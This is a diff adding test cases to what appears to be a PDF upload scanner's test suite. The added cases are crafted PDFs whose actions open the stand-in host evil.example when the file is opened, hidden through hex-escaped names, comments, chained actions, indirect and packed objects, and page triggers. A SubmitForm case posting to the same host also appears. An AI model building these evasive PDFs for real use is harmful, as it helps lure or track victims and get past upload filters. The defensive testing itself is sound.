@@ -185,6 +185,47 @@ const documents: Case[] = [
     'admin_upload_document_active',
   ],
   [
+    'an address of the web to open',
+    'document',
+    () => action('/S /URI /URI (http://evil.example/who)'),
+    'admin_upload_document_active',
+  ],
+  [
+    'an address to open, in numbers and behind a remark',
+    'document',
+    () => pdf({ catalog: '/Open#41ction % said\n<< /S /U#52I /URI (http://evil.example/who) >>' }),
+    'admin_upload_document_active',
+  ],
+  [
+    'an address to open after a page of its own',
+    'document',
+    () => action('/S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (http://evil.example/who) >>'),
+    'admin_upload_document_active',
+  ],
+  [
+    'an address to open in another object',
+    'document',
+    () => pdf({ catalog: '/OpenAction 4 0 R', stream: '/S /URI /URI (http://evil.example/who)' }),
+    'admin_upload_document_active',
+  ],
+  [
+    'an address to open in a packed object',
+    'document',
+    () =>
+      pdf({
+        catalog: '/OpenAction 9 0 R',
+        stream: '/Type /ObjStm /N 2 /First 9',
+        packed: '8 0 9 5  null << /S /URI /URI (http://evil.example/who) >>',
+      }),
+    'admin_upload_document_active',
+  ],
+  [
+    'an address to open as a page is turned to',
+    'document',
+    () => pdf({ catalog: '/Names << >> /AA << /O << /S /URI /URI (http://evil.example/who) >> >>' }),
+    'admin_upload_document_active',
+  ],
+  [
     'a form that sends',
     'document',
     () => action('/S /SubmitForm /F (http://evil.example)'),
